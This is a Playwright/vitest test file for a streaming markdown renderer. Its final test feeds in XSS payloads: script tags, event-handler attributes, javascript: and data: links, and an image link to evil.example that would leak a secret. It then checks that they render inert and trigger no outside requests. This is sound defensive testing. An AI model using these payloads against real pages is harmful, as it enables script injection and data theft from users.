/**
 * The streaming markdown renderer in real Chromium: for many random chunkings of real answers (cuts
 * inside markers, fences, table rows and multi-byte characters), the DOM after the last chunk equals
 * the answer rendered whole; finished blocks are rendered once and never touched again; open code
 * fences stay plain until they close; hostile output renders inert.
 */
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import type { Page } from 'playwright-core';
import type * as markdownModule from '../../src/web/markdown/index.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { screenshot } from '../support/chromium.js';
import { startMarkdownHarness, type MarkdownHarness } from './markdown-harness.js';

type MarkdownModule = typeof markdownModule;

const MIXED = readFileSync('test/fixtures/markdown/mixed-answer.md', 'utf8');
const EDGES = [
  '**Bold start** then *em*, `code`, ~~gone~~ and a [link](https://example.com/a_b?x=1&y=2).',
  '',
  '- one\n- two\n\n- loose three\n\n  continued under three\n\n1. first\n2. second',
  '',
  'Heading by underline\n===',
  '',
  '| a | b |\n|:--|--:|\n| 1 | **2** |\n| 😀 | 東京 |',
  '',
  '```python\ndef f(x):\n    return x * 2  # *not em*\n```',
  '',
  '> quote line\nlazy continuation',
  '',
  'Trailing text with café and 👩‍👩‍👧 and e\u0301.',
].join('\n');
const FIXTURES = { mixed: MIXED, edges: EDGES };

let h: MarkdownHarness;
let page: Page;
beforeAll(async () => {
  h = await startMarkdownHarness();
  page = await h.newPage();
});
afterAll(async () => {
  await h?.close();
});

/** Streams `text` cut at `cuts`, rendering after the chunks flagged in `renders`; returns [streamed, whole] HTML. */
function streamAndWhole(text: string, cuts: number[], renders: boolean[]): Promise<[string, string]> {
  return page.evaluate(
    async ({ text, cuts, renders }) => {
      const md = (window as unknown as { md: MarkdownModule }).md;
      const root = document.createElement('div');
      const whole = document.createElement('div');
      document.body.append(root, whole);
      const renderer = new md.StreamingMarkdown(root);
      let previous = 0;
      cuts.forEach((cut, i) => {
        renderer.append(text.slice(previous, cut));
        previous = cut;
        if (renders[i]) renderer.render();
      });
      renderer.append(text.slice(previous));
      renderer.render();
      renderer.finish();
      await renderer.settled();
      await md.renderMarkdown(text, whole);
      const result: [string, string] = [root.innerHTML, whole.innerHTML];
      root.remove();
      whole.remove();
      return result;
    },
    { text, cuts, renders },
  );
}

describe('streaming markdown in Chromium', () => {
  for (const [name, text] of Object.entries(FIXTURES)) {
    it(`ends equal to the whole render for random chunkings (${name})`, async () => {
      const chunking = fc
        .uniqueArray(fc.integer({ min: 1, max: text.length - 1 }), { minLength: 1, maxLength: 120 })
        .map((cuts) => cuts.sort((a, b) => a - b))
        .chain((cuts) =>
          fc.tuple(fc.constant(cuts), fc.array(fc.boolean(), { minLength: cuts.length, maxLength: cuts.length })),
        );
      let runs = 0;
      await fc.assert(
        fc.asyncProperty(chunking, async ([cuts, renders]) => {
          const [streamed, whole] = await streamAndWhole(text, cuts, renders);
          runs += 1;
          expect(streamed).toBe(whole);
        }),
        { seed: 20261204, numRuns: 25 },
      );
      expect(runs).toBeGreaterThanOrEqual(20);
    });
  }

  it('renders finished blocks once: their elements stay the same objects and a selection in them survives', async () => {
    const result = await page.evaluate(async (text) => {
      const md = (window as unknown as { md: MarkdownModule }).md;
      const root = document.createElement('div');
      document.body.append(root);
      const renderer = new md.StreamingMarkdown(root);
      const half = text.indexOf('| family');
      renderer.append(text.slice(0, half));
      renderer.render();
      const first = root.firstElementChild!;
      const heading = first.querySelector('h1')!;
      const range = document.createRange();
      range.selectNodeContents(heading);
      getSelection()!.removeAllRanges();
      getSelection()!.addRange(range);
      const selected = getSelection()!.toString();
      for (let i = half; i < text.length; i += 7) {
        renderer.append(text.slice(i, i + 7));
        renderer.render();
      }
      renderer.finish();
      await renderer.settled();
      return {
        sameElement: root.firstElementChild === first && first.querySelector('h1') === heading,
        selected,
        stillSelected: getSelection()!.toString(),
        stats: renderer.stats,
      };
    }, MIXED);
    expect(result.sameElement).toBe(true);
    expect(result.selected).toBe('Streaming responses on Bedrock');
    expect(result.stillSelected).toBe(result.selected);
    expect(result.stats.settledBlocks).toBeGreaterThan(8);
  });

  it('shows an open code fence as plain text and highlights it once the fence closes', async () => {
    const result = await page.evaluate(async () => {
      const md = (window as unknown as { md: MarkdownModule }).md;
      const root = document.createElement('div');
      document.body.append(root);
      const renderer = new md.StreamingMarkdown(root);
      renderer.append('Code:\n\n```ts\nconst x: number = 1;\nfunction f() {');
      renderer.render();
      await renderer.settled();
      const open = {
        code: root.querySelector('pre code')?.textContent,
        spans: root.querySelectorAll('pre code span').length,
      };
      renderer.append('}\n```\n\nAfter.');
      renderer.render();
      await renderer.settled();
      return { open, spans: root.querySelectorAll('pre code .hljs-keyword').length, html: root.innerHTML };
    });
    expect(result.open.code).toBe('const x: number = 1;\nfunction f() {');
    expect(result.open.spans).toBe(0);
    expect(result.spans).toBeGreaterThan(0);
  });

  it('renders hostile output inert, links safe, and never fetches a remote image', async () => {
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    const hostile = [
      '<script>window.__xss=1</script>',
      '<img src=x onerror="window.__xss=2">',
      '[a](javascript:window.__xss=3) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>) [d](vbscript:x)',
      '<svg onload="window.__xss=4"></svg> <math><mi xlink:href="javascript:alert(1)">m</mi></math>',
      '<iframe src="javascript:window.__xss=5"></iframe> <a href="#" onclick="window.__xss=6">x</a> <style>*{}</style>',
      '![leak](https://evil.example/leak?q=secret) ![ok](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==)',
      '[safe](https://example.org/) [mail](mailto:a@example.org) [rel](/docs)',
    ].join('\n\n');
    const result = await page.evaluate(async (text) => {
      const md = (window as unknown as { md: MarkdownModule }).md;
      const root = document.createElement('div');
      document.body.append(root);
      const renderer = new md.StreamingMarkdown(root);
      for (let i = 0; i < text.length; i += 5) {
        renderer.append(text.slice(i, i + 5));
        renderer.render();
      }
      renderer.finish();
      await renderer.settled();
      await new Promise((resolve) => setTimeout(resolve, 200));
      return {
        xss: (window as unknown as { __xss?: number }).__xss,
        dangerous: root.querySelectorAll('script, iframe, svg, math, style, [onerror], [onload], [onclick], [style]')
          .length,
        hrefs: [...root.querySelectorAll('a')].map((a) => ({ href: a.getAttribute('href'), rel: a.rel })),
        images: [...root.querySelectorAll('img')].map((img) => img.getAttribute('src')!.slice(0, 22)),
        text: root.textContent,
      };
    }, hostile);
    expect(result.xss).toBeUndefined();
    expect(result.dangerous).toBe(0);
    for (const link of result.hrefs) {
      expect(link.rel).toBe('noopener noreferrer');
      if (link.href !== null) expect(link.href).toMatch(/^(https:|mailto:|\/)/);
    }
    expect(result.hrefs.filter((link) => link.href !== null).map((link) => link.href)).toEqual([
      'https://example.org/',
      'mailto:a@example.org',
      '/docs',
    ]);
    expect(result.images).toEqual(['data:image/png;base64,']);
    expect(result.text).toContain('leak');
    expect(requests.filter((url) => !url.startsWith(h.url))).toEqual([]);
    await page.evaluate((text) => {
      const md = (window as unknown as { md: MarkdownModule }).md;
      const root = document.getElementById('root')!;
      root.style.cssText = 'font: 15px system-ui; max-width: 760px; margin: 16px';
      return md.renderMarkdown(text, root);
    }, MIXED);
    await screenshot(page, 'markdown-render');
  });
});
